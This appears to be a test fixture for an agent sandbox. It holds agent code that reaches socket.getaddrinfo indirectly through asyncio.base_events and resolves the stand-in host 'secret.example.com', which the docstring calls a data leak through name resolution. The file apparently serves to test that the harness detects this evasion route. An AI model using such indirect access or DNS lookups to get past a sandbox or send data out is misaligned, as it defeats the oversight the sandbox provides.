"""Looks up another host name, which leaks data through name resolution."""
# check: MODULE_BY_ATTRIBUTE
# run: socket.getaddrinfo

import asyncio


def agent_main(problem):
    return [{"reached": str(asyncio.base_events.socket.getaddrinfo("secret.example.com", 80))}]
